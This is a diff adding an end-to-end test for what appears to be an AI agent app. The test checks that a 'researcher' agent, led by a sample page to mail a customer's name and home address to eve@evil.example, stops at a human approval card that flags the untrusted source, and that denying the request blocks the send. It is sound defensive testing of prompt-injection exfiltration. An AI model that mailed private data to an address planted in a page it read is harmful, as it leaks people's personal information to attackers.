@@ -472,6 +472,32 @@ test('the agent researcher reads two pages of a site, and writes a report for do
 	}
 });
 
+test('the agent researcher asks a person before it mails an address that a page tells it to mail', async () => {
+	await page.goto(server.url);
+	await page.locator('#agent option[value="researcher"]').waitFor({ state: 'attached' });
+	await page.selectOption('#agent', 'researcher');
+	await page.click('#examples >> text=Open the sample page.');
+	const card = page.getByRole('form', { name: 'send_mail waits' });
+	await card.waitFor();
+	await runEnds();
+	const mail = { to: 'eve@evil.example', text: 'Ada Lovelace, 12 St James’s Square, London' };
+	expect(JSON.parse((await card.locator('code').textContent()) ?? '')).toEqual(mail);
+	expect(await card.locator('.flow :is(dt, dd)').allTextContents()).toEqual([
+		...['Would send the above to', 'eve@evil.example'],
+		...['Strangers may have written', 'open_sample_page {}'],
+		...['Private', 'find_customer {"name":"Ada Lovelace"}'],
+	]);
+	await shoot('researcher-asks');
+	await page.click('#places >> text=Inbox');
+	await sees('.card .flow', 'eve@evil.example');
+	await shoot('researcher-asks-inbox');
+	await page.goBack();
+	await card.getByRole('button', { name: 'Deny' }).click();
+	await sees('.prose', 'send_mail failed');
+	await runEnds();
+	expect(await page.locator('.open-call').count()).toBe(0);
+});
+
 describe('the panels', () => {
 	const openPanel = async (title: string) => {
 		await page.goto(`${server.url}/`);
